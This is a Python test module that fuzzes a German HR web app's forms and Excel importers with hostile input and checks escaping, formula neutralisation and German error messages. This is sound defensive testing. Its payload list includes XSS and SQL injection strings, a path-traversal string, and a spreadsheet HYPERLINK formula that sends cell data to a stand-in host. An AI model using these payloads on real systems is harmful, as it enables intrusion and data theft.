"""Random and hostile input (hypothesis) to every form and both Excel importers.

For every submission: never a 500, never a partial save (the database is either unchanged or
holds exactly the one intended change), and every refusal comes with a German message. Each
example runs in its own savepoint, rolled back afterwards, so examples do not see each other.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from contextlib import contextmanager
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.apps import apps
from django.contrib.auth.models import Group, User
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.forms import BaseForm, BaseFormSet
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from core.xlsx import ImportFailed
from costing.imports import import_cost_table
from costing.models import CostRate, ReimbursementRule
from departments.models import BudgetSection, OrgUnit
from scripts.http_client import form_fields
from stellenplan.imports import import_positions
from stellenplan.models import PayGrade, Position

# The number of examples comes from the hypothesis profile (tests/conftest.py: dev 30, ci 12).
EXAMPLES = settings(
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

# Values that broke or fooled web applications before.
NASTY = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://böse.example/?d="&A1;"Klick")',
    "=1+1",
    "+49 711 216-0",
    "-1",
    "@SUMME(A1:A9)",
    "\x00",
    "Null\x00Zeichen",
    "\u202egnuthcaeb",
    "\r\n",
    " ",
    "0.500",
    "1.000",
    "1e3",
    "NaN",
    "Infinity",
    "-0",
    "0,5",
    "0.5",
    "١٫٥",
    "½",
    "50 %",
    "99.99.9999",
    "31.02.2011",
    "0000-00-00",
    "9999-12-31",
    "01.10.11",
    "' OR 1=1 --",
    "Robert'); DROP TABLE stellenplan_position;--",
    "{{ 7*7 }}",
    "{% debug %}",
    "%s%s%n",
    "../../etc/passwd",
    "🧑‍⚕️ Ärztin für Ünïcödé – 中文 עברית",
    "ß" * 201,
    "A" * 5000,
    "9" * 40,
    "-99999999999999999999",
]

hostile_text = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    st.text(min_size=150, max_size=400),
)

ENGLISH = re.compile(
    r"\b(this|the|enter|ensure|select|valid|field|required|must|please|value|characters|"
    r"invalid|not allowed|at most|at least|has)\b",
    re.IGNORECASE,
)
GERMAN = re.compile(
    r"[äöüÄÖÜß„“]|\b(bitte|ist|nicht|kein|keine|darf|muss|eingeben|gültig|gültige|wählen|"
    r"Zeichen|Wert|höchstens|mindestens|gibt|Auswahl|Feld|erforderlich|Zahl|Datum|Jahr|"
    r"schon|vergeben|Option|Datei|Zeile|Spalte|Fehler|der|die|das|den|dem|des|und|oder|ein|"
    r"eine|einer|einen|hat|haben|sind|wird|wurde|werden|kann|nur|mit|von|zu|zum|zur|bei|auf|"
    r"aus|als|auch|noch|nichts|unbekannt|unbekannte|gespeichert|geändert|angelegt|Stelle)\b",
    re.IGNORECASE,
)


def assert_german(message: str, entered: list[str] | tuple[str, ...] = ()) -> None:
    """A German message; the user's own input echoed in it counts neither way."""
    text = str(message)
    assert text.strip(), f"leere Meldung: {message!r}"
    values = sorted({str(v).strip() for v in entered if v is not None}, key=len, reverse=True)
    unquoted = re.sub(r"„[^“]*“", "", text)
    german = unquoted
    for value in values:
        if len(value) >= 4:
            german = german.replace(value, "")
    english = unquoted
    for value in values:
        if len(value) >= 2:
            english = english.replace(value, "")
    assert GERMAN.search(german), f"nicht deutsch: {message!r}"
    assert not ENGLISH.search(english), f"englisch: {message!r}"


def form_messages(form: BaseForm) -> list[str]:
    return [str(m) for errors in form.errors.values() for m in errors]


PROJECT_APPS = ("departments", "stellenplan", "costing", "decisions")


def database_state() -> dict:
    """Every row of every model of the project (and the roles): small with the reference data."""
    models = [m for label in PROJECT_APPS for m in apps.get_app_config(label).get_models()]
    return {
        model._meta.label: sorted(map(str, model._default_manager.values_list()))
        for model in [*models, Group]
    }


def changed_models(before: dict, after: dict) -> set[str]:
    return {key for key in before if before[key] != after[key]}


@contextmanager
def rolled_back(client: Client | None = None):
    """One example in a savepoint that is always undone (and without earlier flash messages)."""
    if client is not None:
        client.cookies.pop("messages", None)
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


@pytest.fixture
def fast_password_hashing(settings):
    # Every login attempt hashes (also for unknown names); PBKDF2 would make 50 attempts slow.
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def hr_client(seed):
    user = User.objects.create_superuser("haerter", password="Ein-langes-Passwort-1")
    client = Client()
    client.force_login(user)
    return client


def ids(model) -> list[int]:
    return list(model.objects.values_list("pk", flat=True))


def german_date(d: date) -> str:
    return d.strftime("%d.%m.%Y")


def rarely(data: st.DataObject, one_in: int) -> bool:
    """True about once in `one_in` draws (hypothesis shrinks towards False)."""
    return data.draw(st.sampled_from([False] * (one_in - 1) + [True]))


def field_value(data: st.DataObject, valid: st.SearchStrategy) -> str:
    """Mostly a plausible value, sometimes a hostile one (so that some examples get saved)."""
    if rarely(data, 8):
        return data.draw(hostile_text)
    return data.draw(valid)


dates = st.dates(min_value=date(2000, 1, 1), max_value=date(2020, 12, 31)).map(german_date)
later_dates = st.dates(min_value=date(2021, 1, 1), max_value=date(2040, 12, 31)).map(german_date)
optional_later_dates = st.one_of(st.just(""), later_dates)
plain_text = st.text(
    alphabet=st.characters(categories=["L", "N", "Zs", "P", "S"]), min_size=1, max_size=60
).filter(str.strip)


def position_data(data: st.DataObject) -> dict[str, str]:
    return {
        "org_unit": field_value(data, st.sampled_from(ids(OrgUnit)).map(str)),
        "pay_grade": field_value(data, st.sampled_from(ids(PayGrade)).map(str)),
        "fte": field_value(data, st.sampled_from(["0,5", "1", "0.25", "1,0", "0,33", "50 %"])),
        "title": field_value(data, plain_text),
        "task_heading": field_value(data, st.text(max_size=300)),
        "note": field_value(data, st.sampled_from(["", "KW", "KU"])),
        "note_date": field_value(data, st.just("")),
        "start_date": field_value(data, dates),
        "end_date": field_value(data, optional_later_dates),
        "fixed_term": data.draw(st.sampled_from(["", "on", "ja", "\x00"])),
        "tasks": field_value(data, st.text(max_size=2000)),
        "justification": field_value(data, st.text(max_size=2000)),
    }


def submit(
    client: Client,
    url: str,
    data: dict,
    *,
    created: type | None = None,
    edited=None,
) -> None:
    """POST `data`; check the response and that the database holds all of it or none of it."""
    before = database_state()
    response = client.post(url, data)
    after = database_state()
    event(f"HTTP {response.status_code}")
    assert response.status_code in (200, 302, 400), response.status_code
    if response.status_code == 302:
        changed = changed_models(before, after)
        assert changed, "gespeichert gemeldet, aber nichts geändert"
        if created is not None:
            assert created.objects.count() == len(before[created._meta.label]) + 1
        if edited is not None:
            edited.refresh_from_db()
            if hasattr(edited, "version"):
                assert edited.version == int(data["version"]) + 1
    else:
        assert after == before, f"teilweise gespeichert: {changed_models(before, after)}"
        form = response.context["form"]
        messages = form_messages(form)
        assert messages, "abgelehnt ohne Meldung"
        for message in messages:
            assert_german(message, list(data.values()))


def opened(client: Client, url: str) -> dict[str, str]:
    """The hidden fields (version, snapshot) of an edit form as the browser got them."""
    form = client.get(url).context["form"]
    return {name: str(form[name].value()) for name in ("version", "opened")}


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_position_create_form(hr_client, data):
    with rolled_back(hr_client):
        submit(
            hr_client,
            reverse("positions:create"),
            position_data(data),
            created=Position,
        )


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_position_update_form(hr_client, data):
    with rolled_back(hr_client):
        position = Position.objects.order_by("pk").first()
        url = reverse("positions:update", args=[position.pk])
        payload = position_data(data) | opened(hr_client, url)
        if rarely(data, 6):
            payload["version"] = data.draw(hostile_text)  # tampered hidden field
        submit(hr_client, url, payload, edited=position)


def orgunit_data(data: st.DataObject) -> dict[str, str]:
    return {
        "code": field_value(data, st.text(min_size=1, max_size=30)),
        "name": field_value(data, st.text(min_size=1, max_size=200)),
        "kind": field_value(data, st.sampled_from([k for k, _ in OrgUnit.Kind.choices])),
        "parent": field_value(data, st.sampled_from(["", *map(str, ids(OrgUnit))])),
        "budget_section": field_value(data, st.sampled_from(["", *map(str, ids(BudgetSection))])),
    }


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_orgunit_create_form(hr_client, data):
    with rolled_back(hr_client):
        submit(hr_client, reverse("orgunits:create"), orgunit_data(data), created=OrgUnit)


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_orgunit_update_form(hr_client, data):
    with rolled_back(hr_client):
        unit = OrgUnit.objects.filter(parent__isnull=False).order_by("pk").first()
        url = reverse("orgunits:update", args=[unit.pk])
        payload = orgunit_data(data) | opened(hr_client, url)
        submit(hr_client, url, payload, edited=unit)


def paygrade_data(data: st.DataObject) -> dict[str, str]:
    return {
        "code": field_value(data, st.text(min_size=1, max_size=20)),
        "status_group": field_value(data, st.sampled_from(["beamte", "tarif"])),
        "career_group": field_value(data, st.sampled_from(["", "mD", "gD", "hD"])),
        "sort_order": field_value(data, st.integers(0, 10**6).map(str)),
    }


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_paygrade_create_form(hr_client, data):
    with rolled_back(hr_client):
        submit(hr_client, reverse("paygrades:create"), paygrade_data(data), created=PayGrade)


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_paygrade_update_form(hr_client, data):
    with rolled_back(hr_client):
        grade = PayGrade.objects.order_by("pk").first()
        url = reverse("paygrades:update", args=[grade.pk])
        submit(hr_client, url, {**paygrade_data(data), "version": grade.version}, edited=grade)


def money_text(cents: int) -> str:
    euros, rest = divmod(cents, 100)
    return f"{euros:,}".replace(",", ".") + (f",{rest:02d}" if rest else "")


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_costrate_update_form(hr_client, data):
    with rolled_back(hr_client):
        rate = CostRate.objects.order_by("pk").first()
        amount = st.integers(1, 10**11).map(money_text)
        payload = {
            "annual_cost": field_value(data, amount),
            "personnel_cost": field_value(data, st.one_of(st.just(""), amount)),
            "material_cost": field_value(data, st.one_of(st.just(""), amount)),
            "it_cost": field_value(data, st.just("")),
            "version": rate.version,
        }
        submit(hr_client, reverse("costs:costrate_update", args=[rate.pk]), payload, edited=rate)


def rule_data(data: st.DataObject) -> dict:
    return {
        "name": field_value(data, plain_text),
        "rate": field_value(
            data,
            st.one_of(
                st.integers(0, 1000).map(lambda n: f"{n / 10:.1f} %".replace(".", ",")),
                st.integers(0, 10000).map(lambda n: f"0,{n:04d}"),
            ),
        ),
        "org_units": data.draw(
            st.lists(st.sampled_from(ids(OrgUnit)).map(str), min_size=1, max_size=3)
        ),
        "valid_from": field_value(data, dates),
        "valid_to": field_value(data, optional_later_dates),
    }


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_reimbursementrule_forms(hr_client, data):
    with rolled_back(hr_client):
        rule = ReimbursementRule.objects.order_by("pk").first()
        if data.draw(st.booleans()):
            submit(
                hr_client,
                reverse("costs:rule_create"),
                rule_data(data),
                created=ReimbursementRule,
            )
        else:
            url = reverse("costs:rule_update", args=[rule.pk])
            submit(hr_client, url, {**rule_data(data), "version": rule.version}, edited=rule)


@pytest.mark.django_db
@EXAMPLES
@given(version=hostile_text, which=st.sampled_from(["position", "orgunit"]))
def test_delete_confirmations_with_a_tampered_version(hr_client, version, which):
    with rolled_back(hr_client):
        if which == "position":
            obj = Position.objects.order_by("pk").first()
            url = reverse("positions:delete", args=[obj.pk])
        else:
            obj = OrgUnit.objects.filter(positions__isnull=False).first()
            url = reverse("orgunits:delete", args=[obj.pk])
        before = database_state()
        response = hr_client.post(url, {"version": version})
        assert response.status_code in (200, 302, 400)
        if version.strip() == str(obj.version) and which == "position":
            return  # the right version: the position is deleted (tested elsewhere)
        if response.status_code == 302:
            # refused (org unit with positions): nothing deleted, a German message
            assert database_state() == before
            for message in get_messages(response.wsgi_request):
                assert_german(message.message, [version])
        else:
            assert database_state() == before


@pytest.mark.django_db
@EXAMPLES
@given(
    username=st.one_of(hostile_text, st.text(min_size=256, max_size=1000)),
    password=hostile_text,
    page=st.sampled_from(["login", "admin:login"]),
)
def test_login_forms(client, fast_password_hashing, username, password, page):
    with rolled_back(client):
        response = client.post(reverse(page), {"username": username, "password": password})
        assert response.status_code in (200, 429)
        assert "_auth_user_id" not in client.session
        if response.status_code == 200:
            messages = form_messages(response.context["form"])
            assert messages
            for message in messages:
                assert_german(message, [username, password])
        else:
            assert "Anmeldung vorübergehend gesperrt" in response.content.decode()


# --- Excel importers ----------------------------------------------------------------------

cell_values = st.one_of(
    hostile_text,
    st.none(),
    st.booleans(),
    st.integers(-(10**15), 10**15),
    st.floats(allow_nan=True, allow_infinity=True),
    st.decimals(allow_nan=False, allow_infinity=False, places=4).map(float),
    st.dates(min_value=date(1900, 1, 1), max_value=date(2200, 12, 31)),
)


NOT_XML = re.compile("[\ufffe\uffff]")


def cell(value):
    """What a spreadsheet can hold: no control characters, no U+FFFE/U+FFFF (not XML)."""
    if not isinstance(value, str):
        return value
    return NOT_XML.sub("", ILLEGAL_CHARACTERS_RE.sub("", value))


def workbook_bytes(header: list, rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Stellen"
    sheet.append(header)
    for row in rows:
        sheet.append([cell(v) for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


POSITION_HEADER = [
    "Org.einheit",
    "Stellenwert",
    "Funktionsbezeichnung",
    "Anzahl der Stellen",
    "Beginn",
    "Ende",
    "Stellenvermerk",
]


def position_rows(data: st.DataObject) -> list[list]:
    units = list(OrgUnit.objects.values_list("code", flat=True))
    grades = list(PayGrade.objects.values_list("code", flat=True))
    valid = [
        st.sampled_from(units),
        st.sampled_from(grades),
        plain_text,
        st.sampled_from([0.5, 1, "0,5", Decimal("0.25"), "1,0"]),
        st.dates(min_value=date(2000, 1, 1), max_value=date(2030, 1, 1)),
        st.one_of(st.none(), st.dates(min_value=date(2030, 1, 2), max_value=date(2040, 1, 1))),
        st.sampled_from(["", "KW", "KU"]),
    ]
    count = data.draw(st.integers(1, 6))
    return [[data.draw(st.one_of(v, v, v, cell_values)) for v in valid] for _ in range(count)]


def check_import(run: Callable[[], object], entered: list) -> None:
    before = database_state()
    try:
        run()
        event("importiert")
    except ImportFailed as failed:
        event("abgelehnt")
        assert database_state() == before, "Import teilweise gespeichert"
        assert failed.issues
        assert_german(str(failed))
        for issue in failed.issues:
            assert_german(str(issue), [str(v) for v in entered if v is not None])
    else:
        assert database_state() != before


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_position_importer(seed, data):
    with rolled_back():
        rows = position_rows(data)
        content = workbook_bytes(POSITION_HEADER, rows)
        before = Position.objects.count()

        def run():
            result = import_positions(io.BytesIO(content), default_start=date(2012, 1, 1))
            assert Position.objects.count() == before + len(rows) == before + result.created

        check_import(run, [v for row in rows for v in row])


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_cost_table_importer(seed, data):
    with rolled_back():
        grades = list(PayGrade.objects.values_list("code", flat=True))
        grade_values = st.lists(st.sampled_from(grades), min_size=1, max_size=4, unique=True)
        rows = [
            [
                data.draw(cell_values) if rarely(data, 8) else grade,
                data.draw(cell_values)
                if rarely(data, 8)
                else data.draw(st.integers(10000, 200000)),
            ]
            for grade in data.draw(grade_values)
        ]
        content = workbook_bytes(["Stellenwert", "Jahreskosten"], rows)
        name = data.draw(st.sampled_from(["Kostentabelle Test", *NASTY[:5]]))
        create = data.draw(st.booleans())

        def run():
            import_cost_table(
                io.BytesIO(content), name=name, valid_from=date(2031, 1, 1), create_grades=create
            )

        check_import(run, [name, *(v for row in rows for v in row)])


broken_files = st.one_of(
    st.binary(max_size=2000),
    st.sampled_from(
        [
            b"",
            b"PK\x03\x04",
            b"PK\x05\x06" + b"\x00" * 18,  # an empty zip archive
            b"%PDF-1.4\n",
            b"Org.einheit;Stellenwert\n10;A 12\n",
            b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaa'>]><x>&a;</x>",
        ]
    ),
)


@pytest.mark.django_db
@EXAMPLES
@given(content=broken_files, cut=st.integers(0, 5000), which=st.sampled_from(["pos", "cost"]))
def test_importers_refuse_broken_files(seed, content, cut, which):
    with rolled_back():
        if not content:
            # a real workbook, cut off somewhere
            content = workbook_bytes(POSITION_HEADER, [["10", "A 12", "SB", 1, date(2012, 1, 1)]])
            content = content[: cut % len(content)]
        if which == "pos":
            check_import(lambda: import_positions(io.BytesIO(content)), [])
        else:
            check_import(
                lambda: import_cost_table(
                    io.BytesIO(content), name="Kaputt", valid_from=date(2031, 1, 1)
                ),
                [],
            )


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_import_upload_forms(hr_client, data):
    with rolled_back(hr_client):
        if data.draw(st.booleans()):
            content = workbook_bytes(POSITION_HEADER, position_rows(data))
        else:
            content = data.draw(broken_files)
        filename = data.draw(st.sampled_from(["stellen.xlsx", "<script>.xlsx", "a" * 300, ""]))
        upload = SimpleUploadedFile(filename or "x", content)
        if data.draw(st.booleans()):
            url = reverse("excel:import_positions")
            payload = {"file": upload, "default_start": field_value(data, dates)}
        else:
            url = reverse("excel:import_cost_table")
            payload = {
                "file": upload,
                "name": field_value(data, st.text(min_size=1, max_size=200)),
                "valid_from": field_value(data, dates),
                "remark": data.draw(hostile_text),
            }
        before = database_state()
        response = hr_client.post(url, payload)
        assert response.status_code in (200, 302, 400)
        if response.status_code != 302:
            assert database_state() == before
            shown = form_messages(response.context["form"])
            shown += [str(issue) for issue in response.context.get("issues") or []]
            assert shown, "abgelehnt ohne Meldung"
            entered = [v for v in payload.values() if isinstance(v, str)]
            for message in shown:
                assert_german(message, entered)


# --- decision pages: any field of any of their forms and formsets ---------------------------


def forms_in(response) -> list[BaseForm]:
    """Every form and formset form a page was rendered with."""
    found: list[BaseForm] = []

    def walk(value, depth=0):
        if isinstance(value, BaseForm):
            found.append(value)
        elif isinstance(value, BaseFormSet):
            found.append(value.management_form)
            found.extend(value.forms)
            found.append(value.empty_form)
        elif isinstance(value, list | tuple) and depth < 2:
            for item in value:
                walk(item, depth + 1)

    for context in response.context or []:
        for values in context.dicts:
            for value in values.values():
                walk(value)
    return found


def messages_of(response) -> tuple[list[str], list[str]]:
    """(error messages, other messages) of a response: form, formset and flash messages."""
    errors: list[str] = []
    for form in forms_in(response):
        errors += [str(m) for field_errors in form.errors.values() for m in field_errors]
    for context in response.context or []:
        for values in context.dicts:
            for value in values.values():
                if isinstance(value, list) and value and isinstance(value[0], tuple):
                    for item in value:
                        if len(item) == 2 and isinstance(item[1], BaseFormSet):
                            errors += [str(m) for m in item[1].non_form_errors()]
    other: list[str] = []
    for message in get_messages(response.wsgi_request):
        (errors if message.level >= 40 else other).append(str(message.message))
    return errors, other


def editable_decision():
    from decisions.models import Decision

    decision = Decision.objects.order_by("pk").first()
    assert decision.is_editable
    return decision


DECISION_PAGES = [
    "decisions:create",
    "decisions:edit",
]


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_decision_forms(hr_client, data):
    with rolled_back(hr_client):
        name = data.draw(st.sampled_from(DECISION_PAGES))
        args = [] if name == "decisions:create" else [editable_decision().pk]
        url = reverse(name, args=args)
        page = hr_client.get(url)
        assert page.status_code == 200
        fields = form_fields(page.content.decode())
        names = sorted(n for n in fields if n != "csrfmiddlewaretoken")
        assert names, "kein Formular auf der Seite"
        for field in data.draw(st.sets(st.sampled_from(names), max_size=3)):
            fields[field] = data.draw(hostile_text)
        before = database_state()
        response = hr_client.post(url, fields)
        event(f"HTTP {response.status_code}")
        assert response.status_code in (200, 302, 400)
        errors, other = messages_of(response)
        entered = list(fields.values())
        for message in errors + other:
            assert_german(message, entered)
        if response.status_code != 302 or errors:
            assert errors, "abgelehnt ohne Meldung"
            assert database_state() == before, "teilweise gespeichert"


@pytest.mark.django_db
@EXAMPLES
@given(data=st.data())
def test_decision_status_and_position_forms(hr_client, data):
    from decisions.models import DecisionPosition

    with rolled_back(hr_client):
        decision = editable_decision()
        link = DecisionPosition.objects.filter(decision=decision).first()
        action = data.draw(st.sampled_from(["status", "add", "move", "reopen"]))
        version = field_value(data, st.sampled_from([str(decision.version), "0", "x"]))
        if action == "status":
            url = reverse("decisions:status", args=[decision.pk])
            payload = {
                "status": field_value(data, st.sampled_from(["eingebracht", "beschlossen", "x"])),
                "date": field_value(data, dates),
                "comment": data.draw(hostile_text),
                "confirm": field_value(data, st.sampled_from(["on", ""])),
                "version": version,
            }
        elif action == "reopen":
            url = reverse("decisions:reopen", args=[decision.pk])
            payload = {"reason": data.draw(hostile_text), "confirm": "on", "version": version}
        elif action == "add":
            url = reverse("decisions:position_add", args=[decision.pk])
            payload = {
                "position": field_value(data, st.sampled_from(ids(Position)).map(str)),
                "next_query": data.draw(hostile_text),
                "version": version,
            }
        else:
            url = reverse("decisions:position_move", args=[decision.pk, link.pk])
            payload = {
                "direction": field_value(data, st.sampled_from(["up", "down"])),
                "version": version,
            }
        before = database_state()
        response = hr_client.post(url, payload)
        event(f"{action}: HTTP {response.status_code}")
        assert response.status_code == 302
        errors, other = messages_of(response)
        for message in errors + other:
            assert_german(message, list(payload.values()))
        if errors:
            assert database_state() == before, "teilweise gespeichert"


def project_form_classes() -> set[type]:
    """Every concrete form class defined in the project's forms modules."""
    import importlib
    import inspect

    classes = set()
    root = Path(__file__).resolve().parent.parent
    for label in PROJECT_APPS:
        for path in (root / label).glob("forms*.py"):
            module = importlib.import_module(f"{label}.{path.stem}")
            for _, cls in inspect.getmembers(module, inspect.isclass):
                if cls.__module__ != module.__name__ or not issubclass(cls, BaseForm):
                    continue
                meta = getattr(cls, "_meta", None)
                if meta is not None and getattr(meta, "model", None) is None:
                    continue  # an abstract base such as VersionedModelForm
                classes.add(cls)
    return classes


@pytest.mark.django_db
def test_every_form_of_the_project_is_fuzzed_above(hr_client):
    """A new form must be added to the tests of this module (directly or through its page)."""
    from front.forms.decisions import MoveForm, PositionLinkForm, ReasonForm, StatusForm
    from front.forms.positions import VersionForm

    decision = editable_decision()
    position = Position.objects.order_by("pk").first()
    grade = PayGrade.objects.order_by("pk").first()
    unit = OrgUnit.objects.filter(parent__isnull=False).order_by("pk").first()
    pages = [
        reverse("positions:create"),
        reverse("positions:update", args=[position.pk]),
        reverse("positions:delete", args=[position.pk]),
        reverse("orgunits:create"),
        reverse("orgunits:update", args=[unit.pk]),
        reverse("paygrades:create"),
        reverse("paygrades:update", args=[grade.pk]),
        reverse("excel:import_positions"),
        reverse("excel:import_cost_table"),
        reverse("costs:costrate_update", args=[CostRate.objects.order_by("pk").first().pk]),
        reverse("costs:rule_create"),
        *(
            reverse(name, args=[] if name.endswith("create") else [decision.pk])
            for name in DECISION_PAGES
        ),
    ]
    covered: set[type] = {  # POSTed above
        VersionForm,
        StatusForm,
        PositionLinkForm,
        MoveForm,
        ReasonForm,
    }
    for url in pages:
        response = hr_client.get(url)
        assert response.status_code == 200, url
        covered |= {type(form) for form in forms_in(response)}
    # formsets build their forms as subclasses of the declared form class
    missing = {
        cls.__qualname__
        for cls in project_form_classes()
        if not any(issubclass(used, cls) for used in covered)
    }
    assert not missing, f"Formulare ohne Test mit feindlichen Eingaben: {sorted(missing)}"


# --- no user text unescaped in HTML, Excel or PDF -----------------------------------------

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://böse.example/?d="&A1;"Klick")'
UNICODE = "Ärztin für Straßenbau – Ελληνικά Кириллица ½"


@pytest.fixture
def hostile_position(seed):
    """A position and an org unit whose texts are attacks, in the reference decision."""
    from decisions.services import decision_add_position

    unit = OrgUnit.objects.filter(positions__isnull=False).order_by("pk").first()
    unit.name = f'{SCRIPT} "><img src=x onerror=alert(2)>'
    unit.save()
    position = Position.objects.filter(org_unit=unit).order_by("pk").first()
    position.title = f"{SCRIPT} {UNICODE}"[:200]
    position.task_heading = FORMULA
    position.tasks = "+1+1\n@SUMME(A1)\n-2+3\n" + "Sehr lange Aufgabe " * 2000
    position.justification = "=1+1"
    position.save()
    decision = editable_decision()
    from decisions.models import DecisionPosition

    if not DecisionPosition.objects.filter(decision=decision, position=position).exists():
        decision_add_position(
            decision=decision,
            position=position,
            acting_user=None,
            expected_version=decision.version,
        )
    return position


@pytest.mark.django_db
def test_it_escapes_user_text_in_every_page(hr_client, hostile_position):
    position = hostile_position
    decision = editable_decision()
    pages = [
        reverse("costs:overview"),
        reverse("positions:list"),
        reverse("positions:list") + "?q=alert",
        reverse("positions:detail", args=[position.pk]),
        reverse("positions:update", args=[position.pk]),
        reverse("positions:delete", args=[position.pk]),
        reverse("orgunits:tree"),
        reverse("orgunits:detail", args=[position.org_unit_id]),
        reverse("orgunits:update", args=[position.org_unit_id]),
        reverse("decisions:detail", args=[decision.pk]),
        reverse("decisions:positions", args=[decision.pk]),
        reverse("decisions:print", args=[decision.pk]),
        reverse("admin:stellenplan_position_change", args=[position.pk]),
    ]
    escaped_somewhere = False
    for url in pages:
        response = hr_client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert SCRIPT not in html, url
        assert "<img src=x" not in html, url
        escaped_somewhere |= "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert escaped_somewhere
    detail = hr_client.get(reverse("positions:detail", args=[position.pk])).content.decode()
    assert UNICODE in detail


@pytest.mark.django_db
def test_it_neutralises_formulas_and_keeps_unicode_in_excel(hr_client, hostile_position):
    from openpyxl import load_workbook

    for url in (
        reverse("excel:export_positions"),
        reverse("excel:export") + "?year=2012",
        reverse("excel:export_org_unit", args=[hostile_position.org_unit_id]),
    ):
        response = hr_client.get(url)
        assert response.status_code == 200, url
        workbook = load_workbook(
            io.BytesIO(b"".join(response.streaming_content))
            if response.streaming
            else io.BytesIO(response.content)
        )
        texts = []
        user_cells = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
                        if cell.data_type == "f":
                            # formulas the export writes itself (sums) never carry user text
                            assert "HYPERLINK" not in cell.value and "alert" not in cell.value
                        elif any(m in cell.value for m in ("HYPERLINK", "alert(1)", "SUMME")):
                            user_cells.append(cell)
        assert user_cells, url
        for cell in user_cells:
            # Shown as it is (no apostrophe), but a string cell with quotePrefix: never run.
            assert cell.data_type == "s", (url, cell.value[:80])
            if cell.value.startswith(("=", "+", "-", "@")):
                assert cell.quotePrefix is True, (url, cell.value[:80])
        assert any(UNICODE in t for t in texts), url
        assert all(len(t) <= 32767 for t in texts)


@pytest.mark.django_db
def test_it_prints_user_text_as_text_in_the_pdf(hr_client, hostile_position):
    from pypdf import PdfReader

    response = hr_client.get(reverse("decisions:pdf", args=[editable_decision().pk]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(b"%PDF")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)
    flat = re.sub(r"\s+", " ", text)
    # shown literally, so it was escaped, not interpreted as HTML
    assert "<script>alert(1)</script>" in flat
    assert "Ärztin für Straßenbau" in flat


# --- Range checks (issue 11): a German message instead of a 500, for each case found. ---

MANY_DIGITS = "4" * 28
HUGE_NUMBER = "9" * 4400  # above Python's limit for int() of a text (4,300 digits)
HUGE_ID = str(2**63)  # one above the largest bigint
THOUSAND_WORDS = " ".join(f"wort{i}" for i in range(1000))


def page_client(client: Client) -> Client:
    """The client, but a server error comes back as a 500 response instead of an exception."""
    client.raise_request_exception = False
    return client


def error_of(response, field: str) -> list[str]:
    return [str(m) for m in response.context["form"].errors.get(field, [])]


@pytest.mark.django_db
@pytest.mark.parametrize("fte", [MANY_DIGITS, "0," + MANY_DIGITS, MANY_DIGITS + " %", "9" * 40])
def test_an_fte_with_too_many_digits_gets_a_german_message(hr_client, fte):
    data = {
        "org_unit": str(ids(OrgUnit)[0]),
        "pay_grade": str(ids(PayGrade)[0]),
        "fte": fte,
        "title": "Sachbearbeitung",
        "start_date": "01.01.2012",
    }
    before = Position.objects.count()
    response = page_client(hr_client).post(reverse("positions:create"), data)
    assert response.status_code == 200
    (message,) = error_of(response, "fte")
    assert "zu viele Ziffern" in message and fte[:20] in message
    assert_german(message, [fte])
    assert Position.objects.count() == before


@pytest.mark.django_db
@pytest.mark.parametrize("rate", ["1" * 27, "0," + "1" * 27, "1" * 27 + " %"])
def test_a_rate_with_too_many_digits_gets_a_german_message(hr_client, rate):
    data = {
        "name": "Erstattung",
        "rate": rate,
        "org_units": [str(ids(OrgUnit)[0])],
        "valid_from": "01.01.2012",
    }
    before = ReimbursementRule.objects.count()
    response = page_client(hr_client).post(reverse("costs:rule_create"), data)
    assert response.status_code == 200
    (message,) = error_of(response, "rate")
    assert "zu viele Ziffern" in message
    assert_german(message, [rate])
    assert ReimbursementRule.objects.count() == before


@pytest.mark.django_db
@pytest.mark.parametrize("amount", ["1" * 27, "1" * 28 + ",50"])
def test_a_cost_rate_with_too_many_digits_gets_a_german_message(hr_client, amount):
    rate = CostRate.objects.order_by("pk").first()
    assert rate is not None
    url = reverse("costs:costrate_update", args=[rate.pk])
    data = {"annual_cost": amount, **opened_if_versioned(hr_client, url)}
    response = page_client(hr_client).post(url, data)
    assert response.status_code == 200
    (message,) = error_of(response, "annual_cost")
    assert "zu viele Ziffern" in message
    rate_after = CostRate.objects.get(pk=rate.pk)
    assert rate_after.annual_cost == rate.annual_cost


def opened_if_versioned(client: Client, url: str) -> dict[str, str]:
    form = client.get(url).context["form"]
    return {name: str(form[name].value()) for name in ("version", "opened") if name in form.fields}


